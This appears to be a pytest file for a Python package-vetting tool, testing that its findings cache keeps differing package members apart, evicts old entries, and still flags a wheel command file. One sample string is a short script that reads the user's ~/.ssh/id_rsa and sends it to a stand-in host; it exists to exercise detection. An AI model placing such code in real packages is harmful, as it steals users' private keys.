"""The memo of identical members (ADR 0065) answers only a member whose own pass would read
the same things: every part of its key keeps entries apart, and a file a wheel installs as
a command is not answered by the same bytes met elsewhere. Samples are inert (a host
203.0.113.7, never contacted)."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.memo import MEMO, FindingsMemo, Key
from airlock.imports.packages.rules import PackageFinding, Severity
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import sdist, wheel

BASE: Key = (b"d" * 32, "tool", False, False, False, False, False)


def _variants() -> list[Key]:
    digest, base, *flags = BASE
    keys: list[Key] = [(b"e" * 32, base, *flags), (digest, "tool.py", *flags)]  # type: ignore[list-item]
    for i in range(len(flags)):
        turned = [*flags]
        turned[i] = not turned[i]
        keys.append((digest, base, *turned))  # type: ignore[arg-type]
    return keys


@pytest.mark.parametrize("other", _variants())
def test_each_part_of_the_key_keeps_members_apart(other: Key) -> None:
    memo = FindingsMemo()
    memo.findings(BASE, "a/tool", lambda: [PackageFinding("x", "a/tool", 1, Severity.LOW, "x")])
    assert not memo.knows(other)
    assert memo.findings(other, "b/tool", list) == []
    assert memo.hits == 0


def test_a_full_memo_forgets_the_least_recently_used_first() -> None:
    memo = FindingsMemo(max_entries=2)
    keys = _variants()[:3]
    for key in keys:
        memo.findings(key, "p", list)
    assert not memo.knows(keys[0])
    assert memo.knows(keys[1])
    assert memo.knows(keys[2])


# Python that sends the user's SSH key away: a wheel's command file starting ``#!python`` is
# read as Python (ADR 0063); the same bytes in an sdist's scripts/ folder are a data file.
EXFILTRATION = (
    "#!python\nimport os, urllib.request\nurllib.request.urlopen('http://203.0.113.7/', "
    "data=open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n"
)


def test_a_command_file_is_read_as_python_after_the_same_bytes_were_read_as_data() -> None:
    MEMO.clear()
    as_data = sdist(
        "evpkg", "1.0", {"evpkg/__init__.py": "x = 1\n", "scripts/evtool": EXFILTRATION}
    )
    vet("evpkg-1.0.tar.gz", as_data)
    files: dict[str, str | bytes] = {
        "evpkg/__init__.py": "x = 1\n",
        "evpkg-1.0.data/scripts/evtool": EXFILTRATION,
    }
    assert vet("evpkg-1.0-py3-none-any.whl", wheel("evpkg", "1.0", files)).verdict is not (
        Outcome.ALLOW
    )
